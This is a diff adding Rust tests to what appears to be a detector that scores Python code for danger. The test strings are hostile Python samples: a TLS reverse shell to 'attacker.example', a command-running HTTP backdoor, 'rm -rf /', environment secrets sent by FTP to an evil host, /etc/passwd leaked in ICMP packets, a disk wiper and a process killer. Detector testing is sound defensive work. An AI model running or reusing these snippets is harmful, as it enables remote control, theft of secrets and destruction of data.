@@ -136,3 +136,90 @@ fn listing_root_home_and_unnamed_separators() {
         "import os\nfor p in filter(None, '/etc/kubernetes/admin.conf:'.split(os.pathsep)):\n    print(open(p).read())\n",
     );
 }
+
+#[test]
+fn reduce_over_run_time_items_runs_its_function() {
+    // `reduce(lambda n, p: n + stop(p), process_iter(), 0)` calls `stop` on processes.
+    let kill = "import functools, psutil\ndef stop(proc):\n    proc.terminate()\n    return 1\nprint(functools.reduce(lambda acc, p: acc + stop(p), psutil.process_iter(), 0))\n";
+    fires("CRD107", kill);
+    // Summing numbers read at run time is just arithmetic.
+    level(
+        Level::Low,
+        "import functools, sys\nprint(functools.reduce(lambda a, b: a + b, map(int, sys.argv[1:]), 0))\n",
+    );
+}
+
+#[test]
+fn a_python_console_served_over_a_socket_is_a_remote_shell() {
+    // An `InteractiveConsole` whose `raw_input` reads a connection runs what it sends.
+    let console = "import code, socket, ssl\nclass Console(code.InteractiveConsole):\n    def __init__(self, sock):\n        super().__init__()\n        self.reader = sock.makefile('r')\n    def raw_input(self, prompt=''):\n        return self.reader.readline()\nraw = socket.create_connection(('attacker.example', 443))\nsock = ssl.create_default_context().wrap_socket(raw, server_hostname='attacker.example')\nConsole(sock).interact()\n";
+    fires("CRD101", console);
+    level(Level::Blocked, console);
+    // A console of the program's own, reading the terminal, is a REPL: code known only
+    // at run time, nobody else's shell.
+    let repl = "import code\nclass Console(code.InteractiveConsole):\n    def raw_input(self, prompt=''):\n        return input(prompt)\nConsole().interact()\n";
+    fires("CRD303", repl);
+    level(Level::Medium, repl);
+}
+
+#[test]
+fn partition_and_setattr_on_classes_are_followed() {
+    // `name.partition("__")` splits a proxy's attribute name into module and function.
+    fires(
+        "CRD104",
+        "import importlib\nclass P:\n    def __getattr__(self, item):\n        mod, _, attr = item.partition('__')\n        return getattr(importlib.import_module(mod), attr)\nP().os__system('rm -rf /')\n",
+    );
+    // A method set on a handler class by a decorator serves clients all the same.
+    let handler = "import http.server, os, urllib.parse\ndef routes(cls):\n    def handle(self):\n        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)\n        body = os.popen(q.get('c', ['uptime'])[0]).read().encode()\n        self.wfile.write(body)\n    setattr(cls, 'do_' + 'GET', handle)\n    return cls\n@routes\nclass H(http.server.BaseHTTPRequestHandler):\n    pass\nhttp.server.ThreadingHTTPServer(('0.0.0.0', 8088), H).serve_forever()\n";
+    fires("CRD102", handler);
+    level(Level::Blocked, handler);
+}
+
+#[test]
+fn secrets_put_into_containers_and_instances_stay_secrets() {
+    // `m["env"].update(os.environ)`, `self.update(os.environ)` in a dict subclass, and
+    // `bytes(obj)` through its `__bytes__`, sent by FTP.
+    let nested = "import ftplib, io, json, os\nm = {'env': {}}\nm['env'].update(os.environ)\nwith ftplib.FTP('ftp.evil.example.net') as ftp:\n    ftp.login('u', 'p')\n    ftp.storbinary('STOR x', io.BytesIO(json.dumps(m).encode()))\n";
+    fires("CRD109", nested);
+    let instance = "import ftplib, io, json, os\nclass M(dict):\n    def __bytes__(self):\n        return json.dumps(self).encode()\ndef build():\n    m = M()\n    m.update(os.environ)\n    return m\nwith ftplib.FTP('ftp.evil.example.net') as ftp:\n    ftp.login('u', 'p')\n    ftp.storbinary('STOR x', io.BytesIO(bytes(build())))\n";
+    fires("CRD109", instance);
+    // A settings dict sent to the program's own server holds no secret.
+    silent(
+        "CRD109",
+        "import ftplib, io, json\nm = {'cfg': {}}\nm['cfg'].update({'retries': 3})\nwith ftplib.FTP('ftp.example.com') as ftp:\n    ftp.login('u', 'p')\n    ftp.storbinary('STOR x', io.BytesIO(json.dumps(m).encode()))\n",
+    );
+}
+
+#[test]
+fn raw_packets_carry_their_payload_out() {
+    // scapy's `send` of a packet holding `/etc/passwd` sends it off the machine.
+    fires(
+        "CRD109",
+        "from scapy.all import IP, ICMP, Raw, send\ndata = open('/etc/passwd', 'rb').read()\nsend(IP(dst='203.0.113.5') / ICMP() / Raw(load=data[:64]))\n",
+    );
+    silent(
+        "CRD109",
+        "from scapy.all import IP, ICMP, sr1\nprint(sr1(IP(dst='203.0.113.5') / ICMP(), timeout=2))\n",
+    );
+}
+
+#[test]
+fn block_devices_found_at_run_time_are_disks() {
+    // Every name under `/sys/block` is a disk in `/dev`: opening one for writing (with
+    // `O_SYNC` or any other flag) overwrites it.
+    let wipe = "import os\nfrom pathlib import Path\nfor entry in Path('/sys/block').iterdir():\n    fd = os.open(str(Path('/dev') / entry.name), os.O_WRONLY | getattr(os, 'O_SYNC', 0))\n    os.write(fd, bytes(4096))\n";
+    fires("CRD104", wipe);
+    // Writing `/dev/null` or a file in `/dev/shm` is not.
+    level(
+        Level::Low,
+        "import os\nwith open('/dev/null', 'w') as f:\n    f.write('x')\nfd = os.open('/dev/shm/' + str(os.getpid()), os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x')\n",
+    );
+}
+
+#[test]
+fn a_socket_pair_is_not_the_network() {
+    // Two sockets joined to each other inside the program reach nothing outside it.
+    let pair = "import socket\na, b = socket.socketpair()\na.sendall(b'ping')\nprint(b.recv(4))\n";
+    silent("CRD305", pair);
+    level(Level::Low, pair);
+}
